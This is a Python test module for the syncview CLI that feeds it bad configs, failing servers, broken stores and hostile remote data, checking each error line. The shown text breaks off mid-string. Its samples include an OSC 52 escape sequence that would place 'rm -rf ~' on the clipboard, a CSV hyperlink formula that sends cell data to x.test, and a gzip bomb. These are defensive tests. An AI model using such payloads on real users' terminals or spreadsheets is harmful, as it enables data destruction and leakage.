"""Bad input, tried systematically: every row of ``CASES`` is one input an operator's setup, a
product or a disk can throw at syncview, and the exact line the operator then sees.

Each case prepares real files (config, store), real loopback servers (the fake products of
``tests/connectors/fakes``), then runs one headless command and checks:

- the exit status (1 for a failure, 2 for a refused command line; 0 where the input is
  survivable, e.g. a skipped row);
- the one line the operator sees, exactly, once temporary paths and ports are replaced by
  ``<tmp>`` and ``<port>``: for a failure, the only ``syncview: error:`` line on stderr, with
  no traceback; for a survivable input, a line of its output;
- nothing partly written: the store's data tables hold exactly what they held before
  (a failed sync may add its failed run and log line, and nothing else).

``docs/bad-input.md`` is this table rendered; ``test_the_doc_is_the_table`` fails when they
differ. After changing a case, regenerate the doc with
``SYNCVIEW_UPDATE_DOCS=1 .venv/bin/pytest tests/reliability/test_bad_input.py -k doc``.
"""

from __future__ import annotations

import functools
import ipaddress
import os
import re
import shutil
import socket
import sqlite3
import ssl
import subprocess
import threading
from collections.abc import Callable, Iterator
from contextlib import closing
from dataclasses import dataclass
from pathlib import Path
from wsgiref.simple_server import make_server

import pytest

from syncview.connectors import http
from tests.connectors.fakes.halopsa import FakeHaloPsa
from tests.loopback import _QuietHandler, serve_tcp
from tests.reliability.conftest import HALO_SECRET, HALO_SECRET_VAR, halo_config
from tests.reliability.support import (
    DATA_TABLES,
    TIMEOUT,
    Ran,
    assert_consistent,
    cap_store_pages,
    command,
    content,
    environment,
    free_port,
    invoke,
    query,
)

DOC = Path(__file__).parents[2] / "docs" / "bad-input.md"


@dataclass(frozen=True, slots=True)
class QuickRetry(http.RetryPolicy):
    """The HTTP layer's retry policy with test-sized waits: three tries, backoff of milliseconds.

    ``Retry-After`` is still honoured as the server says (a 429 storm waits its real seconds).
    """

    attempts: int = 3
    backoff: float = 0.01
    max_backoff: float = 0.05


class World:
    """One case's surroundings: a directory, the store and config paths, fake servers, the environment."""

    def __init__(self, directory: Path, serve, demo_template: Path) -> None:
        self.dir = directory
        self.serve = serve
        self.demo_template = demo_template
        self.db = directory / "syncview.db"
        self.config: Path | None = None
        self.env: dict[str, str] = {HALO_SECRET_VAR: HALO_SECRET}
        #: what removes the case's cause (the retry then succeeds); run before the cleanups in any case
        self.fixes: list[Callable[[], None]] = []
        #: what undoes the case's surroundings at the end
        self.cleanups: list[Callable[[], None]] = []

    def fix(self) -> None:
        """Remove the case's cause, once."""
        while self.fixes:
            self.fixes.pop()()

    # ---- config

    def write_config(self, text: str) -> Path:
        self.config = self.dir / "config.toml"
        self.config.write_text(text, encoding="utf-8")
        self.config.chmod(0o600)
        return self.config

    def halo(self, fake: FakeHaloPsa | None = None, *, url: str | None = None, secret: str | None = None,
             extra: str = "") -> FakeHaloPsa:
        """A HaloPSA fake on loopback and a config for it ("Halo"), its secret from an env: reference."""
        fake = fake or FakeHaloPsa()
        base = url or self.serve(fake)
        self.write_config(halo_config(base, extra=extra) if secret is None
                          else halo_config(base, secret=secret, extra=extra))
        return fake

    def halo_synced(self, fake: FakeHaloPsa | None = None) -> FakeHaloPsa:
        """A Halo integration already synced once into the store, so a failing sync has data to spoil."""
        fake = self.halo(fake)
        invoke("--db", self.db, "--config", self.config, "sync", "Halo", env=self.env).ok()
        return fake

    # ---- store

    def demo_store(self) -> Path:
        shutil.copyfile(self.demo_template, self.db)
        return self.db

    def limit_pages(self) -> None:
        """A full disk (see :func:`~tests.reliability.support.cap_store_pages`) until the case is fixed."""
        self.fixes.append(cap_store_pages(self.db))


def serve_self_signed(app, world: World) -> str:
    """Serve ``app`` over TLS on loopback with a certificate nobody trusts (self-signed); returns its URL."""
    from datetime import UTC, datetime, timedelta

    pytest.importorskip("cryptography", reason="makes the self-signed certificate (keyring brings it on Linux)")
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "127.0.0.1")])
    now = datetime.now(UTC)
    cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
            .serial_number(x509.random_serial_number()).not_valid_before(now - timedelta(days=1))
            .not_valid_after(now + timedelta(days=1))
            .add_extension(x509.SubjectAlternativeName([x509.IPAddress(ipaddress.ip_address("127.0.0.1"))]),
                           critical=False)
            .sign(key, hashes.SHA256()))
    certificate, private_key = world.dir / "self-signed.pem", world.dir / "self-signed.key"
    certificate.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    private_key.write_bytes(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                              serialization.NoEncryption()))
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificate, private_key)
    server = make_server("127.0.0.1", 0, app, handler_class=_QuietHandler)
    server.socket = context.wrap_socket(server.socket, server_side=True)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()

    def stop() -> None:
        server.shutdown()
        server.server_close()
        thread.join(timeout=5)
    world.cleanups.append(stop)
    return f"https://127.0.0.1:{server.server_port}"


def serve_raw(world: World, reply: bytes | None) -> str:
    """A loopback server that reads each request and sends ``reply`` raw, then hangs up; with None it
    never answers (the connection stays open until the case ends). Returns its URL."""
    silent: list[socket.socket] = []

    def answer(conn: socket.socket) -> None:
        conn.recv(65536)
        if reply is None:
            silent.append(conn)
            return
        with conn:
            conn.sendall(reply)

    port, stop = serve_tcp(answer)

    def close() -> None:
        stop()
        for conn in silent:
            conn.close()
    world.cleanups.append(close)
    return f"http://127.0.0.1:{port}"


# --------------------------------------------------------------------------- the cases


@dataclass(frozen=True)
class Case:
    id: str
    #: what was tried, for the doc
    tried: str
    #: the command, as an operator types it (for the doc; the run adds --db and --config)
    command: str
    #: prepares the world, returns the command's arguments
    setup: Callable[[World], list[str]]
    #: the exact line the operator sees, with <tmp>, <port>... for what changes between runs
    sees: str
    code: int = 1
    #: for a survivable input: the line is one of stdout's lines, and the store may change
    survivable: bool = False
    #: needs a process of its own (file permissions: run without root's override under root)
    process: bool = False
    #: once the cause is gone (the world's fixes applied), the same command succeeds
    retry_ok: bool = False


def _broken_toml(w: World) -> list[str]:
    w.write_config('[[integrations]]\nname = "Halo"\nkind = halopsa\n')
    return ["status"]


def _half_written_toml(w: World) -> list[str]:
    w.write_config('[[integrations]]\nname = "Halo"\nkind = "halo')  # the editor died mid-save
    return ["status"]


def _half_written_table(w: World) -> list[str]:
    w.write_config('[[integrations]]\nname = "Halo"\nkind = "halopsa"\n[[integr')
    return ["status"]


def _missing_config(w: World) -> list[str]:
    w.config = w.dir / "confg.toml"  # a typo in --config
    return ["status"]


def _not_utf8(w: World) -> list[str]:
    w.write_config("")
    w.config.write_bytes('[[integrations]]\nname = "Caf\xe9"\n'.encode("latin-1"))
    return ["status"]


def _unknown_kind(w: World) -> list[str]:
    w.write_config('[[integrations]]\nname = "Halo"\nkind = "halo_psa"\n')
    return ["status"]


def _literal_secret(w: World) -> list[str]:
    w.halo(secret="HaloS3cret!value")
    return ["status"]


def _unset_env(w: World) -> list[str]:
    w.halo(secret="env:SYNCVIEW_TEST_UNSET")
    w.env.pop("SYNCVIEW_TEST_UNSET", None)
    return ["sync", "Halo"]


def _env_without_name(w: World) -> list[str]:
    w.halo(secret="env:")
    return ["sync", "Halo"]


def _empty_env(w: World) -> list[str]:
    w.halo()
    w.env[HALO_SECRET_VAR] = ""
    return ["sync", "Halo"]


def _failing_cmd(w: World) -> list[str]:
    w.halo(secret="cmd:false")
    return ["sync", "Halo"]


def _unreachable(w: World) -> list[str]:
    w.halo(url=f"http://127.0.0.1:{free_port()}")
    return ["sync", "Halo"]


def _tls_to_plain_http(w: World) -> list[str]:
    w.halo(url=w.serve(FakeHaloPsa()).replace("http://", "https://"))
    return ["sync", "Halo"]


def _self_signed(w: World) -> list[str]:
    w.halo(url=serve_self_signed(FakeHaloPsa(), w))
    # What the line says to do: trust the server's own authority (here the certificate itself).
    w.fixes.append(lambda: w.env.update(SSL_CERT_FILE=str(w.dir / "self-signed.pem")))
    return ["sync", "Halo"]


def _cut_off(w: World) -> list[str]:
    # 28 of the 1000 bytes announced, then the server hangs up.
    w.halo(url=serve_raw(w, b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n"
                            b'{"access_token": "abc", "exp'))
    return ["sync", "Halo"]


def _silent(w: World) -> list[str]:
    w.halo(url=serve_raw(w, None), extra="timeout = 0.3\n")
    return ["sync", "Halo"]


def _wrong_secret(w: World) -> list[str]:
    w.halo(FakeHaloPsa(client_secret="another-secret"))
    return ["sync", "Halo"]


def _status(status: int, times: int = 100, **fault) -> Callable[[World], list[str]]:
    def setup(w: World) -> list[str]:
        fake = w.halo_synced()
        fake.fail(status, path="/api/Client", times=times, **fault)
        return ["sync", "Halo"]
    return setup


def _body(body: bytes | str, content_type: str = "application/json") -> Callable[[World], list[str]]:
    return _status(200, times=1, body=body, headers={"Content-Type": content_type})


def _malformed_rows(w: World) -> list[str]:
    fake = FakeHaloPsa(clients=3, assets_per_client=0, users_per_client=0)
    fake.records["clients"][1] = {"id": 2, "name": None}  # no name
    fake.records["clients"][2] = {"id": {"nested": True}, "name": 7}  # wrong types
    w.halo(fake)
    return ["sync", "Halo"]


def _hostile_names(w: World) -> FakeHaloPsa:
    fake = FakeHaloPsa(clients=1, assets_per_client=3, users_per_client=0)
    assets = fake.records["assets"]
    assets[0]["key_field"] = "EVIL-\x1b]52;c;cm0gLXJmIH4=\x07-PC\x1b[2J"  # clipboard write, clear screen
    assets[1]["key_field"] = "=HYPERLINK(\"http://x.test/?\"&A1,\"open\")"
    assets[2]["key_field"] = "HUGE-" + "X" * 100_000
    w.halo(fake)
    invoke("--db", w.db, "--config", w.config, "sync", "Halo", env=w.env).ok()
    return fake


def _escapes_on_screen(w: World) -> list[str]:
    _hostile_names(w)
    return ["resources", "--filter", "evil"]


def _formula_in_csv(w: World) -> list[str]:
    _hostile_names(w)
    return ["export", "--format", "csv", "--filter", "hyperlink"]


def _huge_name_on_screen(w: World) -> list[str]:
    _hostile_names(w)
    return ["resources", "--filter", "huge"]


def _not_sqlite(w: World) -> list[str]:
    w.db.write_text("these are my notes, not a database\n", encoding="utf-8")
    return ["status"]


def _other_sqlite(w: World) -> list[str]:
    with closing(sqlite3.connect(w.db)) as conn:
        conn.execute("CREATE TABLE invoices (id INTEGER PRIMARY KEY, total REAL)")
    return ["status"]


def _truncated_store(w: World) -> list[str]:
    w.demo_store()
    data = w.db.read_bytes()
    w.db.write_bytes(data[: len(data) // 2])  # a copy cut short
    return ["status"]


def _unreadable_store(w: World) -> list[str]:
    w.demo_store()
    w.db.chmod(0o000)
    w.cleanups.append(lambda: w.db.chmod(0o644))
    return ["status"]


def _newer_schema(w: World) -> list[str]:
    w.demo_store()
    with closing(sqlite3.connect(w.db)) as conn:
        conn.execute("PRAGMA user_version = 99")
    return ["status"]


def _read_only_file(w: World) -> list[str]:
    w.demo_store()
    resource_id = query(w.db, "SELECT id FROM resource WHERE status = 'matched' ORDER BY id LIMIT 1")[0][0]
    w.dir.chmod(0o777)
    w.db.chmod(0o444)
    return ["exclude", str(resource_id)]


def _read_only_dir(w: World) -> list[str]:
    w.demo_store()
    resource_id = query(w.db, "SELECT id FROM resource WHERE status = 'matched' ORDER BY id LIMIT 1")[0][0]
    w.db.chmod(0o666)
    w.dir.chmod(0o555)
    w.cleanups.append(lambda: w.dir.chmod(0o755))
    return ["exclude", str(resource_id)]


def _backup_to_read_only_dir(w: World) -> list[str]:
    w.demo_store()
    target = w.dir / "backups"
    target.mkdir(mode=0o555)
    target.chmod(0o555)
    w.cleanups.append(lambda: target.chmod(0o755))
    return ["backup", str(target / "monday.db")]


def _restore_not_a_store(w: World) -> list[str]:
    w.demo_store()
    (w.dir / "notes.db").write_text("not a backup\n", encoding="utf-8")
    return ["restore", str(w.dir / "notes.db")]


def _restore_while_locked(w: World) -> list[str]:
    w.demo_store()
    invoke("--db", w.db, "backup", w.dir / "monday.db").ok()
    holder = sqlite3.connect(w.db, isolation_level=None)
    holder.execute("BEGIN IMMEDIATE")  # another process's write transaction, never ending

    def release() -> None:
        holder.execute("ROLLBACK")
        holder.close()
    w.cleanups.append(release)
    return ["restore", str(w.dir / "monday.db")]


def _full_disk_sync(w: World) -> list[str]:
    fake = FakeHaloPsa(clients=300, assets_per_client=0, users_per_client=0)
    w.write_config(halo_config(w.serve(fake)).replace("page_size = 5", "page_size = 500"))
    invoke("--db", w.db, "--config", w.config, "status", env=w.env).ok()  # the store exists, Halo registered
    w.limit_pages()
    return ["sync", "Halo"]


def _scope_not_a_list(w: World) -> list[str]:
    w.write_config('[[integrations]]\nname = "CW"\nkind = "connectwise"\nsite = "cw.example.test"\n'
                   'company_id = "acme"\npublic_key = "pub"\nprivate_key = "env:CW_PRIVATE"\nclient_id = "abc"\n'
                   'company_types = "Client"\n')
    return ["status"]


def _unknown_serial_field(w: World) -> list[str]:
    w.halo(extra='serial_field = "serial"\n')
    return ["sync", "Halo"]


def _misspelt_match_on(w: World) -> list[str]:
    w.halo(extra='match_on = ["serail", "name"]\n')
    return ["sync", "Halo"]


def _placeholder_mac_not_a_mac(w: World) -> list[str]:
    w.write_config('[identity]\nplaceholder_macs = ["00:11:22:33:44"]\n')
    return ["status"]


def _full_disk_demo(w: World) -> list[str]:
    invoke("--db", w.db, "status", env=w.env).ok()  # creates the store, empty
    w.limit_pages()
    return ["demo", "--resources", "2000"]


def serve_trickle(world: World) -> str:
    """A loopback server that answers every request with headers, then one body byte every 0.1 s
    for a minute: each read comes well within any timeout. Returns its URL."""
    ended = threading.Event()

    def answer(conn: socket.socket) -> None:
        with conn:
            try:
                conn.recv(65536)
                conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 600\r\n\r\n")
                for _ in range(600):
                    if ended.wait(0.1):
                        return
                    conn.sendall(b" ")
            except OSError:
                return

    port, stop = serve_tcp(answer)

    def close() -> None:
        ended.set()
        stop()
    world.cleanups.append(close)
    return f"http://127.0.0.1:{port}"


def _markup_names(w: World) -> list[str]:
    fake = FakeHaloPsa(clients=1, assets_per_client=3, users_per_client=0)
    for asset, name in zip(fake.records["assets"], ["Workstation [/]", "[DECOM] Server01",
                                                    "[@click=app.quit]quit[/]"], strict=True):
        asset["key_field"] = name
    w.halo(fake)
    invoke("--db", w.db, "--config", w.config, "sync", "Halo", env=w.env).ok()
    return ["resources", "--filter", "workstation"]


def _lone_surrogate(w: World) -> list[str]:
    fake = FakeHaloPsa(clients=1, assets_per_client=2, users_per_client=0)
    fake.records["assets"][0]["key_field"] = "HC01-PC01 \ud83d"  # JSON writes it as "\\ud83d", as UTF-16 APIs do
    w.halo(fake)
    invoke("--db", w.db, "--config", w.config, "status", env=w.env).ok()  # the store exists: the run is kept
    return ["sync", "Halo"]


def _bidi_marks(w: World) -> list[str]:
    fake = FakeHaloPsa(clients=1, assets_per_client=1, users_per_client=0)
    fake.records["assets"][0]["key_field"] = "MARK-\u200eA\u200fB\u061cC"
    w.halo(fake)
    invoke("--db", w.db, "--config", w.config, "sync", "Halo", env=w.env).ok()
    return ["export", "--format", "json", "--filter", "mark"]


def _gzip_bomb(w: World) -> list[str]:
    import zlib
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    bomb = b"".join(packer.compress(b"\0" * (1 << 20)) for _ in range(256)) + packer.flush()
    fake = w.halo(extra="max_response_bytes = 1048576\n")
    fake.fail(200, body=bomb, headers={"Content-Type": "application/json", "Content-Encoding": "gzip"},
              path="/api/Client", times=100)
    return ["sync", "Halo"]


def _trickle(w: World) -> list[str]:
    w.halo(url=serve_trickle(w), extra="request_deadline = 1\n")
    return ["sync", "Halo"]


def _config_fifo(w: World) -> list[str]:
    w.config = w.dir / "config.toml"
    os.mkfifo(w.config)
    return ["status"]


def _config_dev_zero(w: World) -> list[str]:
    w.config = w.dir / "config.toml"
    w.config.symlink_to("/dev/zero")
    return ["status"]


def _names_differ_invisibly(w: World) -> list[str]:
    base = w.serve(FakeHaloPsa())
    w.write_config(halo_config(base, name="Café") + "\n" + halo_config(base, name="Cafe\u0301 "))
    return ["status"]


def _name_with_invisibles(w: World) -> list[str]:
    w.halo(FakeHaloPsa(clients=2, assets_per_client=0, users_per_client=0))
    return ["sync", "Halo\u200b "]


def _endless_cmd(w: World) -> list[str]:
    w.halo(secret="cmd:yes")
    return ["sync", "Halo"]


def _odd_db_name(w: World) -> list[str]:
    w.db = w.dir / "x?y%41.db"
    shutil.copyfile(w.demo_template, w.db)
    return ["status"]


def _odd_db_doctor(w: World) -> list[str]:
    w.db = w.dir / "x?y%41.db"
    shutil.copyfile(w.demo_template, w.db)
    return ["doctor", "--offline"]


def _pg_database(w: World, *, tables: bool = False) -> str:
    """A database of this case's own on the test server (skipped, or failed when required, without one)."""
    from tests import pg

    server = pg.connect_server()
    url = server.create()
    w.cleanups.append(lambda: server.drop(url))
    if tables:
        pg.pg_execute(url, "CREATE TABLE photos (id INTEGER)")
    return url


def _pg_bad_port(w: World) -> list[str]:
    w.db = "postgresql://postgres@127.0.0.1:five/syncview"
    return ["status"]


def _pg_refused(w: World) -> list[str]:
    w.db = f"postgresql://postgres@127.0.0.1:{free_port()}/syncview"
    return ["status"]


def _pg_no_database(w: World) -> list[str]:
    url = _pg_database(w)
    w.db = url.rsplit("/", 1)[0] + "/syncview_no_such_database"
    return ["status"]


def _pg_no_user(w: World) -> list[str]:
    url = _pg_database(w)
    scheme, rest = url.split("://", 1)
    w.db = f"{scheme}://syncview_no_such_user@{rest.split('@', 1)[-1]}"
    return ["status"]


def _pg_not_ours(w: World) -> list[str]:
    w.db = _pg_database(w, tables=True)
    return ["status"]


def _pg_newer(w: World) -> list[str]:
    from tests import pg

    w.db = _pg_database(w)
    invoke("--db", w.db, "status").ok()
    pg.pg_execute(w.db, "UPDATE syncview_schema SET version = 99")
    return ["status"]


def _pg_password_in_config(w: World) -> list[str]:
    w.write_config('[store]\npath = "postgresql://alice:S3cr3t@db.example:5432/syncview"\n')
    return ["status"]


def _read_only_media(w: World) -> list[str]:
    media = w.dir / "media"
    media.mkdir()
    w.db = media / "syncview.db"
    shutil.copyfile(w.demo_template, w.db)
    w.db.chmod(0o444)
    media.chmod(0o555)
    w.cleanups.append(lambda: media.chmod(0o755))
    (w.dir / "backups").mkdir()
    return ["backup", str(w.dir / "backups" / "monday.db")]


CASES: tuple[Case, ...] = (
    # ---- config
    Case("broken-toml", "config: a value without quotes (`kind = halopsa`)",
         "syncview status", _broken_toml,
         ("syncview: error: config error in <tmp>/config.toml, line 3, column 8: invalid value (is it text? "
          'text needs double quotes: key = "value")')),
    Case("half-written-toml", "config: the file ends inside a string (an editor died mid-save)",
         "syncview status", _half_written_toml,
         "syncview: error: config error in <tmp>/config.toml, at the end of the file: unterminated string"),
    Case("half-written-table", "config: the file ends inside a table header (`[[integr`)",
         "syncview status", _half_written_table,
         ("syncview: error: config error in <tmp>/config.toml, at the end of the file: expected ']]' at the "
          "end of an array declaration")),
    Case("missing-config", "config: `--config` names a file that does not exist",
         "syncview --config confg.toml status", _missing_config,
         ("syncview: error: config file <tmp>/confg.toml does not exist (asked for by --config or "
          "SYNCVIEW_CONFIG); fix the path, or start from config.example.toml")),
    Case("not-utf8", "config: a file saved in Latin-1, not UTF-8",
         "syncview status", _not_utf8,
         "syncview: error: config error in <tmp>/config.toml: the file is not UTF-8 text; save it as UTF-8"),
    Case("unknown-kind", 'config: `kind = "halo_psa"`, no such connector',
         "syncview status", _unknown_kind,
         ('syncview: error: config error in <tmp>/config.toml: integrations[1] ("Halo"): kind "halo_psa" is '
          'unknown (did you mean "halopsa"?); known kinds: autotask, connectwise, datto_rmm, demo, files, '
          "halopsa")),
    Case("literal-secret", "config: a secret written in the file instead of a reference",
         "syncview status", _literal_secret,
         ('syncview: error: config error in <tmp>/config.toml: integrations[1] ("Halo"): client_secret is a '
          "secret and must not be written in the file; move it to an environment variable and write "
          'client_secret = "env:HALO_CLIENT_SECRET", or to the keyring (keyring set syncview "Halo") and '
          'write client_secret = "keyring:syncview/Halo", or fetch it with a command: client_secret = '
          '"cmd:pass show ..."')),
    Case("env-unset", "secret: `env:SYNCVIEW_TEST_UNSET`, a variable that is not set",
         "syncview sync Halo", _unset_env,
         ('syncview: error: integration "Halo", setting client_secret: "env:SYNCVIEW_TEST_UNSET": '
          "environment variable SYNCVIEW_TEST_UNSET is not set; export it before starting syncview")),
    Case("env-no-name", "secret: `env:` with no variable name",
         "syncview sync Halo", _env_without_name,
         ('syncview: error: config error in <tmp>/config.toml: integrations[1] ("Halo"): client_secret: '
          'reference "env:" needs an environment variable name, e.g. "env:CW_PRIVATE_KEY"')),
    Case("env-empty", "secret: `env:VAR` where VAR is set to the empty string",
         "syncview sync Halo", _empty_env,
         ('syncview: error: integration "Halo", setting client_secret: "env:SYNCVIEW_TEST_HALO_SECRET" gives '
          "an empty secret; set the value it points to")),
    Case("cmd-fails", "secret: `cmd:false`, a command that fails",
         "syncview sync Halo", _failing_cmd,
         ('syncview: error: integration "Halo", setting client_secret: "cmd:false": false failed with exit '
          "status 1; run it yourself to see why")),
    Case("config-fifo", "config: the file is a named pipe (FIFO) nobody writes to",
         "syncview status", _config_fifo,
         ("syncview: error: config file <tmp>/config.toml is a named pipe (FIFO), not a file; point --config or "
          "SYNCVIEW_CONFIG at the config file itself")),
    Case("config-dev-zero", "config: the file is a link to /dev/zero (endless)",
         "syncview status", _config_dev_zero,
         ("syncview: error: config file <tmp>/config.toml is a device, not a file; point --config or "
          "SYNCVIEW_CONFIG at the config file itself")),
    Case("names-differ-invisibly", "config: two integrations named `Café` (NFC) and `Café ` (NFD, a trailing space)",
         "syncview status", _names_differ_invisibly,
         ('syncview: error: config error in <tmp>/config.toml: integrations[2]: name "Café" is already used by '
          "integrations[1]; every integration needs its own name")),
    Case("name-with-invisibles", "command line: the integration named with a zero-width space and a trailing space",
         "syncview sync 'Halo\u200b '", _name_with_invisibles,
         ("Halo: success in <t> s: 4 fetched, 4 new, 0 changed, 0 newly matched, 0 records created, 0 newly "
          "removed remotely; now 0 matched, 4 not synced, 0 excluded, 0 removed remotely"), code=0, survivable=True),
    Case("cmd-endless", "secret: `cmd:yes`, a command that prints without end",
         "syncview sync Halo", _endless_cmd,
         ('syncview: error: integration "Halo", setting client_secret: "cmd:yes": yes printed more than 1 MiB, '
          "more than any secret; make it print the secret alone")),
    # ---- network and products
    Case("unreachable", "network: the product's port on loopback with nothing listening (connection refused)",
         "syncview sync Halo", _unreachable,
         ("syncview: error: Halo: cannot connect to 127.0.0.1 after 3 attempts (ConnectError: [Errno 111] "
          "Connection refused); check the host name, the network and any firewall or proxy")),
    Case("tls-plain-http", "network: an https:// URL to a plain-HTTP server (TLS handshake fails)",
         "syncview sync Halo", _tls_to_plain_http,
         ("syncview: error: Halo: secure connection to 127.0.0.1 failed after 3 attempts (ConnectError: "
          "[SSL: WRONG_VERSION_NUMBER] wrong version number (_ssl.c:<line>)); check the host name, the system "
          "clock, and any proxy that intercepts TLS")),
    Case("tls-self-signed", "network: an https:// server whose certificate is self-signed",
         "syncview sync Halo", _self_signed,
         ("syncview: error: Halo: the certificate of 127.0.0.1 is not trusted (ConnectError: [SSL: "
          "CERTIFICATE_VERIFY_FAILED] certificate verify failed: self-signed certificate (_ssl.c:<line>)); if "
          "the server uses a certificate of your own authority, point the SSL_CERT_FILE environment variable "
          "at that authority's certificate (PEM)"), retry_ok=True),
    Case("cut-off-body", "network: the connection closes after 28 of the 1000 bytes the answer announced",
         "syncview sync Halo", _cut_off,
         ("syncview: error: Halo: the connection to 127.0.0.1 broke off mid-answer after 3 attempts "
          "(RemoteProtocolError: peer closed connection without sending complete message body (received 28 "
          "bytes, expected 1000)); check the network and any proxy, or sync again later")),
    Case("no-answer", "network: the server accepts the connection and never answers (`timeout = 0.3`)",
         "syncview sync Halo", _silent,
         ("syncview: error: Halo: 127.0.0.1 did not answer in time after 3 attempts (ReadTimeout: timed out); "
          "check the network, or raise this integration's timeout")),
    Case("wrong-secret", "product: the secret is wrong (OAuth `invalid_client`)",
         "syncview sync Halo", _wrong_secret,
         ("syncview: error: authentication failed for Halo: /auth/token refused the token request: "
          "invalid_client; check client_id, client_secret and tenant, and that the API application may read "
          "clients, sites, assets and users")),
    Case("401", "product: 401 on a list even with a fresh token",
         "syncview sync Halo", _status(401),
         ("syncview: error: authentication failed for Halo: GET /api/Client answered 401 (refused the "
          "credentials); check client_id, client_secret and tenant, and that the API application may read "
          "clients, sites, assets and users")),
    Case("403", "product: 403 (the API user may not read clients)",
         "syncview sync Halo", _status(403, body={"message": "Access denied for this application"}),
         ("syncview: error: authentication failed for Halo: GET /api/Client answered 403 (denied access): "
          "Access denied for this application; check client_id, client_secret and tenant, and that the API "
          "application may read clients, sites, assets and users")),
    Case("404", "product: 404 (wrong URL, or the API is disabled)",
         "syncview sync Halo", _status(404),
         ("syncview: error: Halo: GET /api/Client answered 404 (not found); check the integration's URL "
          "settings, and that this API is enabled for the account")),
    Case("429-storm", "product: 429 with `Retry-After: 1` on every request",
         "syncview sync Halo", _status(429, headers={"Retry-After": "1"}),
         ("syncview: error: Halo: still rate limited after 3 attempts (/api/Client answered 429); sync again "
          "later, or lower this integration's rate_limit")),
    Case("429-long-wait", "product: 429 asking to wait an hour (`Retry-After: 3600`)",
         "syncview sync Halo", _status(429, headers={"Retry-After": "3600"}),
         ("syncview: error: Halo: halopsa rate limit reached (/api/Client answered 429) and it asks to wait "
          "3600 s, more than the 300 s syncview waits; sync again later, or lower this integration's "
          "rate_limit")),
    Case("500", "product: 500 on every request",
         "syncview sync Halo", _status(500, body={"message": "Database unavailable"}),
         ("syncview: error: Halo: GET /api/Client answered 500 (Internal Server Error): Database "
          "unavailable; the halopsa service is failing, try again later")),
    Case("truncated", "product: a JSON body cut off mid-way",
         "syncview sync Halo", _body('{"record_count": 3, "clients": [{"id": 1, "name": "Halo Cl'),
         ("syncview: error: Halo: GET /api/Client answered a body that is not JSON (truncated or an error "
          'page?), starting \'{"record_count": 3, "clients": [{"id": 1, "name": "Halo Cl\'; the halopsa API '
          "may have changed, or a proxy answered instead of it")),
    Case("not-json", "product: an HTML page where JSON was expected (a proxy's login page)",
         "syncview sync Halo", _body("<html><body>Please sign in to the proxy</body></html>", "text/html"),
         ("syncview: error: Halo: GET /api/Client answered a body that is not JSON (truncated or an error "
          "page?), starting '<html><body>Please sign in to the proxy</body></html>'; the halopsa API may "
          "have changed, or a proxy answered instead of it")),
    Case("wrong-shape", 'product: a page whose list is a string (`"clients": "none"`)',
         "syncview sync Halo", _body('{"record_count": 3, "clients": "none"}'),
         ('syncview: error: Halo: GET /api/Client answered an object without a "clients" list; the halopsa '
          "API may have changed, or a proxy answered instead of it")),
    Case("malformed-rows", "product: rows without a name, or with an object as id and a number as name",
         "syncview sync Halo", _malformed_rows,
         ("Halo: success in <t> s: 4 fetched, 4 new, 0 changed, 0 newly matched, 0 records created, 0 "
          "newly removed remotely; now 0 matched, 4 not synced, 0 excluded, 0 removed remotely — 2 warnings: "
          "some items were skipped (see the log)"), code=0, survivable=True),
    # ---- hostile remote data
    Case("escape-sequences", "remote data: a device name holding terminal escape sequences (OSC 52 clipboard "
         "write, clear screen)",
         "syncview resources --filter evil", _escapes_on_screen,
         r"3 EVIL-\x1b]52;c;cm0gLXJmIH4=\x07-PC\x1b[2J Device Not Synced no client —            Halo Client 01 just now",
         code=0, survivable=True),
    Case("csv-formula", "remote data: a device name that is a spreadsheet formula (`=HYPERLINK(...)`)",
         "syncview export --format csv --filter hyperlink", _formula_in_csv,
         ('4,1,device,1002,"\'=HYPERLINK(""http://x.test/?""&A1,""open"")",not_synced,,,,Halo Client '
          "01,,,<time>,false,1,,,,its remote company matches no local client,no_client"), code=0, survivable=True),
    Case("huge-name", "remote data: a device name of 100 000 characters",
         "syncview resources --filter huge", _huge_name_on_screen,
         # cut to the screen's 200 characters and folded: the rest of it on the next line
         "5 HUGE-" + "X" * 136 + " Device Not Synced no client —        Halo Cl… just now",
         code=0, survivable=True),
    Case("markup-names", "remote data: device names that are markup (`Workstation [/]`, `[DECOM] Server01`, "
         "`[@click=app.quit]quit[/]`)",
         "syncview resources --filter workstation", _markup_names,
         "3 Workstation [/] Device Not Synced no client —            Halo Client 01 just now", code=0,
         survivable=True),
    Case("lone-surrogate", "remote data: a device name with half an emoji (a lone surrogate, `\\ud83d` in JSON)",
         "syncview sync Halo", _lone_surrogate,
         ("Halo: success in <t> s: 3 fetched, 3 new, 0 changed, 0 newly matched, 0 records created, 0 newly "
          "removed remotely; now 0 matched, 3 not synced, 0 excluded, 0 removed remotely — 1 warning: some items "
          "were skipped (see the log)"), code=0, survivable=True),
    Case("bidi-marks", "remote data: a name holding U+200E, U+200F and U+061C (invisible direction marks)",
         "syncview export --format json --filter mark", _bidi_marks,
         ('{"id": 3, "integration_id": 1, "type": "device", "external_id": "1001", "name": '
          '"MARK-\\u200eA\\u200fB\\u061cC", "status": "not_synced", "record_id": null, "record_name": null, '
          '"record_disabled": null, "remote_company": "Halo Client 01", "client_id": null, "client_name": null, '
          '"last_seen": "<time>", "deleted_remotely": false, "version": 1, "updated_by": null, "updated_at": null, '
          '"matched_on": null, "reason": "its remote company matches no local client", "reason_kind": "no_client"}'),
         code=0, survivable=True),
    Case("gzip-bomb", "product: a gzip bomb (250 KB on the wire, 256 MB inflated; `max_response_bytes = 1048576`)",
         "syncview sync Halo", _gzip_bomb,
         ("syncview: error: Halo: GET /api/Client answered more than 1 MiB (max_response_bytes), so syncview "
